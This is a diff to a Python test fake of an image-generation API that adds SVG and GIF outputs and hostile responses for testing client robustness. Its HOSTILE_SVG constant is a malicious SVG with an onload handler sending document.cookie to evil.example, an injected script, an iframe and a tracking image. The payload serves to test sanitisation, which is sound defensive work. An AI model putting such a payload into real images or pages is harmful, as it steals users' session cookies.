@@ -23,6 +23,11 @@ Each POST /v1/images/generations or /edits takes the next scripted behaviour (or
   "huge"            a 200 whose base64 image is `huge_bytes` long, written as it is made (JSON, or one
                     completed stream event when streaming): a hostile or broken compatible server
   "gzip"            a 200 whose body is gzip-compressed although the client asked for it as it is
+  "hostile_svg"     for output_format=svg, the document in `hostile_svg` (scripts, links, entities...), billed
+  "hostile_gif"     for output_format=gif, an animation of 17 frames (more than the API makes), billed
+
+An SVG answer is a small vector drawing with `svg_usage` (the author's tokens) beside `usage`; a GIF answer
+has `frame_count` frames (9 when omitted), its usage the output tokens of every frame.
 """
 
 from __future__ import annotations
@@ -55,6 +60,33 @@ from tests.fakes.images_contract import (
 )
 
 PIL_FORMAT = {"png": "PNG", "jpeg": "JPEG", "webp": "WEBP"}
+#: the SVG author's tokens the fake reports (reasoning counted apart, as the SDK's SvgUsage has it)
+SVG_AUTHOR_TOKENS = {"input_tokens": 1200, "output_tokens": 2400, "reasoning_tokens": 800}
+HOSTILE_SVG = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64" '
+    b"onload=\"fetch('https://evil.example/steal?c='+document.cookie)\"><script>alert(document.domain)</script>"
+    b'<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'
+    b'</foreignObject><image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>'
+    b'<circle cx="32" cy="32" r="24" fill="#e33"/></svg>'
+)
+
+
+def vector_bytes(size: str) -> bytes:
+    width, height = (1024, 1024) if size in ("auto", "") else map(int, size.split("x"))
+    return (
+        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}">'
+        f'<rect width="{width}" height="{height}" rx="{width // 8}" fill="#2856c8"/>'
+        f'<circle cx="{width // 2}" cy="{height // 2}" r="{min(width, height) // 4}" fill="#ffffff"/></svg>'
+    ).encode()
+
+
+@lru_cache(maxsize=8)
+def animation_bytes(size: str, frames: int) -> bytes:
+    width, height = (1024, 1024) if size in ("auto", "") else map(int, size.split("x"))
+    pictures = [Image.new("RGB", (width, height), (20 * i % 255, 120, 200)).convert("P") for i in range(frames)]
+    out = io.BytesIO()
+    pictures[0].save(out, format="GIF", save_all=True, append_images=pictures[1:], duration=200, loop=0)
+    return out.getvalue()
 
 
 @lru_cache(maxsize=32)
@@ -101,7 +133,8 @@ def _typed(value: str) -> Any:
 
 def _usage_of(body: dict[str, Any], quality: str, size: str, n: int) -> dict[str, Any]:
     """Usage as the API reports it, with an edit's input images counted as image tokens."""
-    reported = usage(body["prompt"], quality, size, n)
+    frames = body.get("frame_count") or 9 if body.get("output_format") == "gif" else 1
+    reported = usage(body["prompt"], quality, size, n * frames)
     sizes = body.get("_input_sizes") or []
     if sizes:
         images = input_image_tokens(sizes, body.get("input_fidelity"))
@@ -135,6 +168,8 @@ class FakeImagesAPI:
         #: the base64 length of a "huge" answer's image, and how much of it was written before the client left
         self.huge_bytes = 300 * 1024 * 1024
         self.huge_sent = 0
+        #: the document a "hostile_svg" answer carries
+        self.hostile_svg = HOSTILE_SVG
         self.urls: dict[str, tuple[bytes, float]] = {}
         self.lock = threading.Lock()
         self.server = _QuietServer(("127.0.0.1", 0), self._handler())
@@ -168,6 +203,7 @@ class FakeImagesAPI:
             self.api_key = "sk-test"
             self.huge_bytes = 300 * 1024 * 1024
             self.huge_sent = 0
+            self.hostile_svg = HOSTILE_SVG
 
     def next_behaviour(self) -> str:
         with self.lock:
@@ -285,6 +321,8 @@ class FakeImagesAPI:
                     )
                 if behaviour == "slow":
                     time.sleep(api.slow_seconds)
+                if behaviour.startswith("hostile_") and body.get("output_format") != behaviour.removeprefix("hostile_"):
+                    behaviour = "b64"
                 if behaviour == "huge":
                     return self._huge(bool(body.get("stream")), "image_edit" if editing else "image_generation")
                 if behaviour == "gzip":
@@ -321,7 +359,7 @@ class FakeImagesAPI:
                 n = int(body.get("n") or 1)
                 data = []
                 for _ in range(n):
-                    payload = self._payload(size, fmt, behaviour)
+                    payload = self._payload(size, fmt, behaviour, int(body.get("frame_count") or 9))
                     if behaviour in ("url", "redirect_url"):
                         token = secrets.token_hex(8)
                         api.urls[token] = (payload, time.time() + api.url_ttl)
@@ -345,9 +383,22 @@ class FakeImagesAPI:
                         background="transparent" if body.get("background") == "transparent" else "opaque",
                         usage=_usage_of(body, quality, size, n),
                     )
+                    if fmt == "svg":
+                        author = str((body.get("svg") or {}).get("model") or "gpt-5.5")
+                        tokens = SVG_AUTHOR_TOKENS
+                        total = sum(tokens.values())
+                        answer["svg_usage"] = {**tokens, "model": author, "total_tokens": total}
                 return answer
 
-            def _payload(self, size: str, fmt: str, behaviour: str) -> bytes:
+            def _payload(self, size: str, fmt: str, behaviour: str, frames: int = 9) -> bytes:
+                if behaviour == "hostile_svg":
+                    return api.hostile_svg
+                if behaviour == "hostile_gif":
+                    return animation_bytes("64x64", 17)
+                if fmt == "svg" and behaviour not in ("not_image",):
+                    return vector_bytes(size)
+                if fmt == "gif" and behaviour not in ("not_image",):
+                    return animation_bytes("512x512" if behaviour == "wrong_size" else size, frames)
                 if behaviour == "wrong_size":
                     return image_bytes("512x512", fmt)
                 if behaviour == "not_image":
